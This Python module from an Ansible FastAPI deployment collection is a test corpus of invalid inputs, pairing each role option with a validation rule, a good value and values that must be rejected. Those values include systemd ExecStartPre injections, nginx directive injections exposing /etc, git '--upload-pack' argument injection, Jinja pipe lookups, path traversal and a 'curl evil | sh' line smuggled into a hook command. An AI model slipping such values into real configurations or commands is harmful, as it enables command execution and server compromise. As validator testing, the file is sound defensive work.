# Copyright (c) 2025, pyops maintainers
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Hostile-input corpus: for every string or list option that reaches a file or a command, the rule its
role's preflight applies, a value that passes, and the values that must fail.

Each option gets the generic hostile values of HOSTILE_KINDS built from its good value (minus the kinds
that are harmless where the value lands, named in `harmless` with the reason), plus its own `extra`
values. test_hostile_corpus.py runs all of them through the test plugins.
"""

from __future__ import annotations

import re

from ansible_collections.pyops.fastapi.plugins.test import validate as v

OVERLONG = 5000
# Look-alikes of ASCII characters (Cyrillic, full-width, Unicode slashes and dashes).
LOOKALIKES = {
    "a": "\u0430",
    "e": "\u0435",
    "o": "\u043e",
    "p": "\u0440",
    "c": "\u0441",
    "x": "\u0445",
    "/": "\u2215",
    ".": "\uff0e",
    "-": "\u2010",
    "1": "\uff11",
    "0": "\uff10",
    ":": "\uff1a",
    "*": "\u2217",
    "A": "\u0410",
    "E": "\u0415",
    "O": "\u041e",
    "P": "\u0420",
    "C": "\u0421",
    "X": "\u0425",
    "T": "\u0422",
    "_": "\uff3f",
    "2": "\uff12",
    "5": "\u0665",
}


def _lookalike(good):
    for index, char in enumerate(good):
        if char in LOOKALIKES:
            return good[:index] + LOOKALIKES[char] + good[index + 1 :]
    raise ValueError(f"no look-alike for {good!r}")


HOSTILE_KINDS = {
    "line break + directive": lambda g: g + "\nExecStartPre=+/bin/sh -c 'id > /tmp/pwned'",
    "trailing line break": lambda g: g + "\n",
    "carriage return": lambda g: g + "\r",
    "';' and braces": lambda g: g + "; location /leak/ { alias /etc/; autoindex on; }",
    "closing docstring": lambda g: g + '"""; __import__("os").system("id"); """',
    "template": lambda g: g + "{{ lookup('pipe', 'id') }}",
    "'..'": lambda g: g + "/../../etc",
    "NUL": lambda g: g[:1] + "\x00" + g[1:],
    "overlong": lambda g: g + "a" * OVERLONG,
    "look-alike Unicode": _lookalike,
}

# Why a kind is harmless for a kind of value (it is quoted, escaped, or a shell command on purpose).
ONE_LINE_ANYTHING = {
    "';' and braces": "stays inside quotes, an argv item or a shell command",
    "closing docstring": "no docstring; quotes are fine there",
    "template": "the value is data, never templated again",
    "'..'": "not a path",
}


def match(pattern):
    """The `match` test of Jinja (re.match), as a preflight applies a one-off regex."""
    return lambda value: isinstance(value, str) and re.match(pattern, value) is not None


def optional(rule):
    """'' is allowed (it switches the feature off), anything else follows rule."""
    return lambda value: value == "" or rule(value)


def absolute_path_after_dash(value):
    """systemd_read_write_paths: '-' in front means 'ignore if missing'."""
    return isinstance(value, str) and v.absolute_path(value[1:] if value.startswith("-") else value)


def forwarded_allow_ips(value):
    return isinstance(value, str) and all(i.strip(" ") == "*" or v.ip_network(i.strip(" ")) for i in value.split(","))


def git_repo(value):
    return v.printable_line(value, forbid=" \"'\\") and not value.startswith("-")


def host_or_address(value):
    return v.ip_address(value) or v.hostname(value)


def acme_domain(value):
    return v.hostname(value, fqdn=True) and not v.ip_address(value)


NGINX_UPSTREAM_PORT = r"([1-9][0-9]{0,3}|[1-5][0-9]{4}|6[0-4][0-9]{3}|65[0-4][0-9]{2}|655[0-2][0-9]|6553[0-5])"
NGINX_UPSTREAM = (
    rf"(unix:/[A-Za-z0-9._@+~=,:/-]+|[A-Za-z0-9]([A-Za-z0-9.-]*[A-Za-z0-9])?:{NGINX_UPSTREAM_PORT}"
    rf"|\[[0-9A-Fa-f:.]+\]:{NGINX_UPSTREAM_PORT})( (weight|max_conns|max_fails)=[0-9]+"
    r"| fail_timeout=[0-9]+[smh]?| backup| down)*\Z"
)

# nginx_upstream_drained: the preflight requires the host:port part of an nginx_upstream_servers
# entry (which matches NGINX_UPSTREAM), so a drained entry is at most this.
NGINX_UPSTREAM_ADDRESS = (
    rf"(unix:/[A-Za-z0-9._@+~=,:/-]+|[A-Za-z0-9]([A-Za-z0-9.-]*[A-Za-z0-9])?:{NGINX_UPSTREAM_PORT}"
    rf"|\[[0-9A-Fa-f:.]+\]:{NGINX_UPSTREAM_PORT})\Z"
)

PATH_EXTRA = ["/", "/opt/app/", "/opt//app", "/opt/./app", "opt/app", "/opt/app name", "/opt/%i/x", "/opt/$x"]
HOST_EXTRA = ["Api.example.test", "*.example.test", "a_b.example.test", "-a.example.test", "api.example.test x"]

# option -> (role, rule, preflight test name or None for a one-off regex, good value, harmless kinds, extra values)
# Environment names the runtime reads (issue 18, finding 8): refused wherever the app's environment is set.
RUNTIME_ENV = [
    "LD_PRELOAD",
    "ld_library_path",
    "LD_AUDIT",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "GUNICORN_CMD_ARGS",
    "FORWARDED_ALLOW_IPS",
    "PATH",
    "NOTIFY_SOCKET",
]

CORPUS = {
    # app
    "app_name": ("app", match(r"[a-z][a-z0-9-]{0,30}\Z"), None, "fastapi-app", {}, ["App", "a" * 32, "a_b"]),
    "app_user": ("app", v.system_name, "system_name", "fastapi-app", {}, ["Root", "a b", "a:b"]),
    "app_group": ("app", v.system_name, "system_name", "fastapi-app", {}, ["a,b", "-a"]),
    "app_base_dir": ("app", v.absolute_path, "absolute_path", "/opt/fastapi-app", {}, PATH_EXTRA),
    "app_module": (
        "app",
        v.python_module_attr,
        "python_module_attr",
        "main:app",
        {},
        ["main", "main:app:x", "main:app()()", '__import__("os"):x'],
    ),
    "app_build_user": ("app", v.system_name, "system_name", "fastapi-app-build", {}, ["root:x", "a b", "A"]),
    "app_pip_index_url": (
        "app",
        lambda x: v.http_url(x, allow_userinfo=True),
        "http_url",
        "https://user:t0ken@pypi.example.test/simple",
        {},
        ["ftp://pypi.example.test/", "https://pypi.example.test/simple --trusted-host x", "https://x/#y"],
    ),
    "app_pip_extra_index_urls": (
        "app",
        lambda x: v.http_url(x, allow_userinfo=True),
        "http_url",
        "https://pypi.example.test/simple",
        {},
        ["https://u:p w@x.test/", "https://x.test/simple\nindex-url = http://evil.test/", "-i http://x.test"],
    ),
    "app_secret_key": (
        "app",
        v.env_file_value,
        "env_file_value",
        "3f9c2b7e1d4a6f8e0b5c9d2a7e4f1b3c",
        ONE_LINE_ANYTHING,
        ["abc'def", "abc\\def", ""],
    ),
    "app_database_url": (
        "app",
        optional(v.env_file_value),
        "env_file_value",
        "postgresql://app:pw@db.example.test/app",
        ONE_LINE_ANYTHING,
        ["postgresql://app:p'w@db/app", "postgresql://app:p\\w@db/app"],
    ),
    # Names that change how the runtime runs the app (issue 18, finding 8), after malformed names.
    "app_env[name]": ("app", v.app_env_name, "app_env_name", "APP_NAME", {}, ["1X", "A-B", "A B", "A=B", *RUNTIME_ENV]),
    "app_env[value]": (
        "app",
        v.env_file_value,
        "env_file_value",
        "production",
        ONE_LINE_ANYTHING,
        ["it's", "a\\b"],
    ),
    "app_server_packages": (
        "app",
        v.pinned_requirement,
        "pinned_requirement",
        "uvicorn[standard]==0.38.0",
        {},
        ["gunicorn", "gunicorn>=27", "gunicorn==27 --index-url=http://evil", "-e git+https://x", "gunicorn==27;x"],
    ),
    "app_requirements_file": (
        "app",
        optional(v.relative_path),
        "relative_path",
        "requirements/prod.txt",
        {},
        ["/etc/passwd", "../requirements.txt", "a/../../x", "./requirements.txt", "a//b", "a/"],
    ),
    "app_source_excludes": (
        "app",
        lambda x: v.printable_line(x, max_length=255),
        "printable_line",
        "*.pyc",
        ONE_LINE_ANYTHING,
        [],
    ),
    "app_source_path": ("app", v.printable_line, "printable_line", "../myapp", ONE_LINE_ANYTHING, [""]),
    "app_pip_extra_args": (
        "app",
        optional(v.printable_line),
        "printable_line",
        "--index-url https://pypi.example.test/simple",
        ONE_LINE_ANYTHING,
        [],
    ),
    "app_git_repo": (
        "app",
        git_repo,
        "printable_line",
        "https://git.example.test/team/app.git",
        {"'..'": "a URL, not a local path"},
        ["--upload-pack=touch /tmp/pwned", "-uhttps://x", "https://x/a b"],
    ),
    "app_git_version": (
        "app",
        v.git_ref,
        "git_ref",
        "release/1.2",
        {},
        ["--upload-pack=id", "-b", "main..dev", "a b", "main@{1}", "main.lock", "a//b"],
    ),
    # gunicorn
    "gunicorn_accesslog": (
        "gunicorn",
        optional(v.absolute_path),
        "absolute_path",
        "/var/log/app/access.log",
        {},
        PATH_EXTRA,
    ),
    "gunicorn_errorlog": ("gunicorn", v.absolute_path, "absolute_path", "/var/log/app/error.log", {}, PATH_EXTRA),
    "gunicorn_control_socket": (
        "gunicorn",
        optional(v.absolute_path),
        "absolute_path",
        "/run/app/ctl.sock",
        {},
        PATH_EXTRA,
    ),
    "gunicorn_forwarded_allow_ips": (
        "gunicorn",
        forwarded_allow_ips,
        "ip_network",
        "127.0.0.1, ::1,10.0.0.0/8",
        {},
        ["127.0.0.1,", "*;", "127.0.0.1 10.0.0.1", "localhost", "127.0.0.1\n", "::1%x"],
    ),
    "gunicorn_proc_name": (
        "gunicorn",
        match(r"[A-Za-z0-9._@:+-]{1,64}\Z"),
        None,
        "fastapi-app",
        {},
        ["a b", "a" * 65, ""],
    ),
    # systemd
    "systemd_description": (
        "systemd",
        v.systemd_safe_text,
        "systemd_safe_text",
        "FastAPI application fastapi-app (Gunicorn with Uvicorn workers)",
        ONE_LINE_ANYTHING,
        [
            "x\n[Service]\nExecStartPre=+/bin/sh -c 'id > /tmp/pwned'",
            "app %n on %H",
            "app\\nExecStartPre=+/bin/id",
            " leading space",
            "",
        ],
    ),
    "systemd_extra_environment[name]": (
        "systemd",
        v.app_env_name,
        "app_env_name",
        "LOG_LEVEL",
        {},
        ["A B", "A=B", "1A", *RUNTIME_ENV],
    ),
    "systemd_extra_environment[value]": (
        "systemd",
        optional(v.printable_line),
        "printable_line",
        'debug "quoted" 100% \\ ok',
        ONE_LINE_ANYTHING,
        [],
    ),
    "systemd_after": (
        "systemd",
        v.systemd_unit_name,
        "systemd_unit_name",
        "postgresql.service",
        {},
        ["x.service\n", "x.service y.service", "postgresql", "x.service;y.service", "x\\x2d.service", ""],
    ),
    "systemd_wants": (
        "systemd",
        v.systemd_unit_name,
        "systemd_unit_name",
        "redis-server.service",
        {},
        ["y.service\n", "a.service\nExecStartPre=+/bin/id", "%i.service"],
    ),
    "systemd_read_write_paths": (
        "systemd",
        absolute_path_after_dash,
        "absolute_path",
        "-/var/lib/fastapi-app",
        {},
        [*PATH_EXTRA, "-/", "/var/../", "/var/lib/%h"],
    ),
    "systemd_memory_max": (
        "systemd",
        match(r"(|infinity|[0-9]+[KMGT]?|[0-9]{1,3}(\.[0-9]+)?%)\Z"),
        None,
        "512M",
        {},
        ["512M\n"],
    ),
    "systemd_cpu_quota": ("systemd", match(r"(|[0-9]+%)\Z"), None, "150%", {}, ["150"]),
    "systemd_tasks_max": ("systemd", match(r"(|infinity|[0-9]+|[0-9]{1,3}%)\Z"), None, "256", {}, ["-1"]),
    "systemd_ip_address_allow": (
        "systemd",
        lambda x: x in ("any", "localhost", "link-local", "multicast") or v.ip_network(x),
        "ip_network",
        "10.0.0.0/8",
        {},
        ["10.0.0.0/8 192.168.0.0/16", "10.0.0.300", "anywhere", "10.0.0.1\nExecStartPre=+/bin/id", "fe80::1%eth0/64"],
    ),
    "systemd_ip_address_deny": (
        "systemd",
        lambda x: x in ("any", "localhost", "link-local", "multicast") or v.ip_network(x),
        "ip_network",
        "any",
        {},
        ["any localhost", "::1/129", "Any", "::1%x"],
    ),
    "systemd_socket_group": ("systemd", v.system_name, "system_name", "www-data", {}, ["www data", "root:root", "-g"]),
    "systemd_umask": ("systemd", match(r"0?[0-7]{3}\Z"), None, "0027", {}, ["0028", "27"]),
    "systemd_runtime_directory_mode": ("systemd", match(r"0?[0-7]{3}\Z"), None, "0755", {}, ["0o755"]),
    "systemd_restrict_address_families": (
        "systemd",
        match(r"AF_[A-Z0-9]+\Z"),
        None,
        "AF_UNIX",
        {},
        ["AF_UNIX AF_PACKET"],
    ),
    # nginx
    "nginx_server_name": ("nginx", v.hostname, "hostname", "api.example.test", {}, HOST_EXTRA),
    "nginx_server_aliases": ("nginx", v.hostname, "hostname", "www.example.test", {}, ["a" * 64 + ".test"]),
    "nginx_site_name": (
        "nginx",
        lambda x: v.file_name(x, max_length=64),
        "file_name",
        "fastapi-app",
        {},
        ["../x", ".hidden", "a/b", "a b"],
    ),
    "nginx_upstream_servers": (
        "nginx",
        match(NGINX_UPSTREAM),
        None,
        "10.0.0.5:8000 max_fails=3",
        {},
        ["10.0.0.5:8000; }", "10.0.0.5:70000", "unix:/run/a b", "10.0.0.5:8000 max_fails=3\n"],
    ),
    "nginx_client_max_body_size": ("nginx", v.nginx_size, "nginx_size", "10m", {}, ["10mb", "-1", "10 m"]),
    "nginx_proxy_connect_timeout": ("nginx", v.nginx_time, "nginx_time", "60s", {}, ["60 s", "s", "1x"]),
    "nginx_proxy_send_timeout": ("nginx", v.nginx_time, "nginx_time", "1h30m", {}, ["60s;"]),
    "nginx_proxy_read_timeout": ("nginx", v.nginx_time, "nginx_time", "250ms", {}, ["-5s"]),
    "nginx_static_expires": ("nginx", match(r"[0-9]{1,9}[smhdw]?\Z"), None, "30d", {}, ["30d\n", "max"]),
    "nginx_ssl_certificate": (
        "nginx",
        v.absolute_path,
        "absolute_path",
        "/etc/nginx/ssl/a/fullchain.pem",
        {},
        PATH_EXTRA,
    ),
    "nginx_ssl_certificate_key": (
        "nginx",
        v.absolute_path,
        "absolute_path",
        "/etc/nginx/ssl/a/privkey.pem",
        {},
        PATH_EXTRA,
    ),
    "nginx_ssl_trusted_certificate": ("nginx", v.absolute_path, "absolute_path", "/etc/ssl/chain.pem", {}, PATH_EXTRA),
    "nginx_acme_webroot": ("nginx", v.absolute_path, "absolute_path", "/var/www/acme", {}, PATH_EXTRA),
    "nginx_static_dir": (
        "nginx",
        optional(v.absolute_path),
        "absolute_path",
        "/opt/app/current/static",
        {},
        PATH_EXTRA,
    ),
    "nginx_resolvers": (
        "nginx",
        v.nginx_resolver,
        "nginx_resolver",
        "[2001:db8::53]:53",
        {},
        [
            "1.1.1.1; location /leak/ { alias /etc/; autoindex on; }",
            "1.1.1.1 valid=1s",
            "$host",
            "valid=",
            "ipv6=maybe",
        ],
    ),
    "nginx_referrer_policy": (
        "nginx",
        v.nginx_header_value,
        "nginx_header_value",
        "no-referrer",
        ONE_LINE_ANYTHING,
        ['x" always; add_header X-Leak "y', "x\\", "$host"],
    ),
    "nginx_permissions_policy": (
        "nginx",
        v.nginx_header_value,
        "nginx_header_value",
        "camera=()",
        ONE_LINE_ANYTHING,
        ['"'],
    ),
    "nginx_cross_origin_opener_policy": (
        "nginx",
        v.nginx_header_value,
        "nginx_header_value",
        "same-origin",
        ONE_LINE_ANYTHING,
        ["$request_uri"],
    ),
    "nginx_content_security_policy": (
        "nginx",
        v.nginx_header_value,
        "nginx_header_value",
        "default-src 'none'; frame-ancestors 'none'",
        ONE_LINE_ANYTHING,
        ["default-src 'none'\"; return 200 \"x"],
    ),
    "nginx_docs_content_security_policy": (
        "nginx",
        v.nginx_header_value,
        "nginx_header_value",
        "default-src 'self'; img-src 'self' data:",
        ONE_LINE_ANYTHING,
        ["a\\"],
    ),
    "nginx_extra_headers[name]": (
        "nginx",
        v.http_header_name,
        "http_header_name",
        "X-Robots-Tag",
        {},
        ["X Y", "X:Y", ""],
    ),
    "nginx_extra_headers[value]": (
        "nginx",
        v.nginx_header_value,
        "nginx_header_value",
        "noindex",
        ONE_LINE_ANYTHING,
        ['"'],
    ),
    "nginx_docs_paths": (
        "nginx",
        v.url_path,
        "url_path",
        "/docs",
        {},
        ["/docs/../etc", "/docs;", "/docs {", "docs", "/docs/./x", "/docs$"],
    ),
    "nginx_backend_allow": (
        "nginx",
        v.ip_network,
        "ip_network",
        "10.0.0.10/32",
        {},
        [
            "all",
            "10.0.0.10; allow all",
            "10.0.0.10 1;\n    0.0.0.0/0",
            "10.0.0.0/33",
            "lb.example.test",
            "::1%x; allow all",
        ],
    ),
    "nginx_backend_listen_addresses": (
        "nginx",
        v.private_ip_address,
        "private_ip_address",
        "10.0.0.5",
        {},
        ["10.0.0.5:8080", "10.0.0.5; listen 0.0.0.0", "0.0.0.0", "8.8.8.8", "fe80::1%eth0", "app1.internal", "::"],
    ),
    "nginx_upstream_drained": (
        "nginx",
        match(NGINX_UPSTREAM_ADDRESS),
        None,
        "10.0.0.5:8080",
        {},
        ["10.0.0.5:8080 down; server 10.6.6.6:80", "10.0.0.5:8080;", "10.0.0.5", "10.0.0.5:8080\n"],
    ),
    "nginx_detailed_health_allow": (
        "nginx",
        v.ip_network,
        "ip_network",
        "10.0.0.0/8",
        {},
        ["all", "10.0.0.1; allow all", "256.1.1.1", "10.0.0.0/33", "::1/129", "fe80::1%eth0"],
    ),
    "nginx_client_header_timeout": (
        "nginx",
        v.nginx_time,
        "nginx_time",
        "10s",
        {},
        ["10s; autoindex on", "10 s", "-1s"],
    ),
    "nginx_client_body_timeout": ("nginx", v.nginx_time, "nginx_time", "10s", {}, ["10s\nlocation / {}", "ten"]),
    "nginx_send_timeout": ("nginx", v.nginx_time, "nginx_time", "1m", {}, ["1m;", "m"]),
    "nginx_client_keepalive_timeout": ("nginx", v.nginx_time, "nginx_time", "30s", {}, ["30s 30s", "30s\n"]),
    "nginx_rate_limit_rate": (
        "nginx",
        match(r"[1-9][0-9]{0,5}r/[sm]\Z"),
        None,
        "20r/s",
        {},
        ["20r/s burst=1000", "0r/s", "20r/h", "20 r/s"],
    ),
    "nginx_rate_limit_zone_size": ("nginx", v.nginx_size, "nginx_size", "10m", {}, ["10m rate=1r/s", "10mb"]),
    "nginx_rate_limit_exempt_addresses": (
        "nginx",
        v.ip_network,
        "ip_network",
        "127.0.0.1",
        {},
        ["0.0.0.0/0 1; }", "all", "localhost", "127.0.0.1 0", "::1%lo"],
    ),
    "nginx_rate_limit_exempt_paths": (
        "nginx",
        v.url_path,
        "url_path",
        "/health",
        {},
        ['/health" ""; default ""', "health", "/a b", "/a?b"],
    ),
    "nginx_openapi_path": ("nginx", v.url_path, "url_path", "/openapi.json", {}, ["/openapi.json { allow all; }", "x"]),
    # certbot
    "certbot_domains": (
        "certbot",
        acme_domain,
        "hostname",
        "api.example.test",
        {},
        [*HOST_EXTRA, "localhost", "10.0.0.1"],
    ),
    "certbot_cert_name": ("certbot", v.file_name, "file_name", "api.example.test", {}, ["../x", ".x", "a/b", "a b"]),
    "certbot_email": (
        "certbot",
        v.email,
        "email",
        "ops@example.test",
        {},
        ["ops@example.test,evil@x.test", "ops", "ops@localhost", "ops @example.test", "--agree-tos@x.test "],
    ),
    "certbot_acme_server": (
        "certbot",
        lambda x: v.http_url(x, https_only=True),
        "http_url",
        "https://acme.example.test:14000/dir",
        {},
        ["http://acme.example.test/dir", "https://a b/", "https://x/dir?x=1", "https://x/#y", "https://"],
    ),
    "certbot_acme_ca_bundle": (
        "certbot",
        optional(v.absolute_path),
        "absolute_path",
        "/etc/ssl/pebble.pem",
        {},
        PATH_EXTRA,
    ),
    "certbot_webroot": ("certbot", v.absolute_path, "absolute_path", "/var/www/acme", {}, PATH_EXTRA),
    "certbot_nginx_certificate": (
        "certbot",
        v.absolute_path,
        "absolute_path",
        "/etc/nginx/ssl/a/fullchain.pem",
        {},
        PATH_EXTRA,
    ),
    "certbot_nginx_certificate_key": (
        "certbot",
        v.absolute_path,
        "absolute_path",
        "/etc/nginx/ssl/a/privkey.pem",
        {},
        PATH_EXTRA,
    ),
    "certbot_nginx_check_address": (
        "certbot",
        host_or_address,
        "ip_address",
        "127.0.0.1",
        {},
        ["127.0.0.1:443", "-h", "::1%x"],
    ),
    "certbot_nginx_check_server_name": ("certbot", v.hostname, "hostname", "api.example.test", {}, HOST_EXTRA),
    # release
    "release_health_endpoints[path]": (
        "release",
        v.url_path,
        "url_path",
        "/health",
        {},
        ["health", "/health/../admin", "/health?x", "/health#x", "//evil.test/"],
    ),
    "release_hooks[name]": (
        "release",
        match(r"[A-Za-z0-9][A-Za-z0-9 _.-]{0,63}\Z"),
        None,
        "migrate db",
        {},
        ["migrate\n", "-x", "a/b"],
    ),
    "release_hooks[command]": (
        "release",
        v.printable_line,
        "printable_line",
        "alembic upgrade head && python -m app.seed",
        ONE_LINE_ANYTHING,
        ["", "alembic upgrade head\n/bin/sh -c 'curl evil | sh'"],
    ),
    "release_gate_url": (
        "release",
        v.http_url,
        "http_url",
        "https://127.0.0.1:443",
        {},
        ["file:///etc/passwd", "https://127.0.0.1:443 -k", "https://127.0.0.1/\n", "gopher://x/"],
    ),
    "release_gate_host": ("release", optional(v.hostname), "hostname", "api.example.test", {}, HOST_EXTRA),
    "release_before_takeover_tasks": (
        "release",
        optional(v.absolute_path),
        "absolute_path",
        "/srv/deploy/drain.yml",
        {},
        PATH_EXTRA,
    ),
    "release_gate_ca_path": ("release", optional(v.absolute_path), "absolute_path", "/etc/ssl/ca.pem", {}, PATH_EXTRA),
    "release_gate_certificate": (
        "release",
        optional(v.absolute_path),
        "absolute_path",
        "/etc/nginx/ssl/a/fullchain.pem",
        {},
        PATH_EXTRA,
    ),
    "release_rollback_to": (
        "release",
        optional(match(r"[0-9]{8}T[0-9]{6}Z\Z")),
        None,
        "20260101T120000Z",
        {},
        ["20260101T120000Z\n", "../20260101T120000Z", "latest"],
    ),
}


def hostile_values(option):
    """The (kind, value) pairs that must fail for option."""
    _role, _rule, _test, good, harmless, extra = CORPUS[option]
    values = [(kind, build(good)) for kind, build in HOSTILE_KINDS.items() if kind not in harmless]
    return values + [(f"extra {index}", value) for index, value in enumerate(extra)]
